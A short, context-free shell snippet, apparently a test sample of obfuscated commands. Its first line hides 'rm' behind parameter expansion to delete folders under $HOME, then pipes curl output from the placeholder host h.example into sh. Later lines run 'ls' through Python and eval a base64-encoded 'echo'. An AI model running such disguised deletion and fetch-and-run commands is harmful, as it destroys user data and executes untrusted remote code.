x=r${y:-m}; $x -rf "$HOME"/{a,b} && curl -s http://h.example/$(id -u) | sh
python3 - <<'P'
import os; os.system("ls")
P
for i in $(seq 3); do eval "$(echo ZWNobw== | base64 -d)" > /dev/null; done
